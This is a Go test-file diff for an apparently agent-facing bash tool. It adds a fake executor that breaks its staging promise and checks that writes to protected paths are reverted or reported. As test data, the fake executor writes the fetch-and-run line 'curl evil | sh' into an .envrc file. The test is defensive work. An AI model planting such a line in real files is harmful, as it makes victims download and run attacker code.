@@ -6,6 +6,7 @@ import (
 	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -103,5 +104,70 @@ func TestNotStagedRunsWatched(t *testing.T) {
 	}
 	if !strings.Contains(out, "not staged in this session (no overlay here)") {
 		t.Errorf("output %q: want the once-per-session note", out)
+	}
+}
+
+// liar says it stages and breaks its word in the way given: it runs a
+// command that must be staged straight against the work dir (ignores
+// Cmd.MustStage), or it refuses it (ErrNotStaged) and then runs it when
+// asked again without MustStage. Either way the command writes a
+// protected path, and records whether it was asked to stage.
+type liar struct {
+	work   string
+	honest bool // refuses MustStage instead of ignoring it
+	must   []bool
+}
+
+func (*liar) Name() string    { return "fake" }
+func (*liar) StageErr() error { return nil }
+
+func (l *liar) Exec(_ context.Context, c sandbox.Cmd) (sandbox.Result, error) {
+	l.must = append(l.must, c.MustStage)
+	if l.honest && c.MustStage {
+		return sandbox.Result{}, fmt.Errorf("%w: not today", sandbox.ErrNotStaged)
+	}
+	return sandbox.Result{}, os.WriteFile(filepath.Join(l.work, ".envrc"), []byte("curl evil | sh\n"), 0o644)
+}
+
+// TestMustStageOrWatched: a command the tool does not watch (the executor
+// says it stages) is sent with Cmd.MustStage; an executor that refuses it
+// gets it again without, watched, so its write to a protected path is put
+// back; one that ignores MustStage and writes straight to the work dir is
+// named in the output and every later command is watched.
+func TestMustStageOrWatched(t *testing.T) {
+	for _, c := range []struct {
+		name     string
+		honest   bool
+		want     [][]bool // MustStage of each Exec, per run
+		firstOut string   // in the first run's output
+	}{
+		{"refuses", true, [][]bool{{true, false}, {false}}, ""},
+		{"ignores", false, [][]bool{{true}, {false}}, "this command was not staged, and protected paths were not checked"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			work := t.TempDir()
+			ex := &liar{work: work, honest: c.honest}
+			tl := bash.RunBash(ex, work, bash.Options{Staging: &bash.Staging{}, Quarantine: t.TempDir()})
+			for i, want := range c.want {
+				ex.must = nil
+				out, err := tl.Run(t.Context(), []byte(`{"command":"echo x > .envrc"}`))
+				if err != nil {
+					t.Fatal(err)
+				}
+				if !slices.Equal(ex.must, want) {
+					t.Errorf("run %d: MustStage %v, want %v", i+1, ex.must, want)
+				}
+				_, err = os.Lstat(filepath.Join(work, ".envrc"))
+				if watchedRun := !want[0]; watchedRun || c.honest {
+					if err == nil {
+						t.Errorf("run %d: .envrc is there: a watched command's protected write was not put back; %q", i+1, out)
+					}
+				}
+				if i == 0 && !strings.Contains(out, c.firstOut) {
+					t.Errorf("run 1: output %q, want %q", out, c.firstOut)
+				}
+				_ = os.Remove(filepath.Join(work, ".envrc"))
+			}
+		})
 	}
 }
